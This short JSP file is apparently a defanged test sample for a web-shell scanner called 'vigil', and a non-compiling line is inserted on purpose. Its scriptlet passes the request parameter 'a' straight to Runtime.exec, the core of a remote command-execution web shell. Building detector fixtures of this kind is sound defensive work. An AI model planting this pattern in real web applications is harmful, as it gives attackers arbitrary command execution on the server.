<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Runtime run = Runtime.getRuntime();
StringBuilder sb = new StringBuilder();
sb.append(request.getParameter("a"));
run.exec(sb.toString());
%>
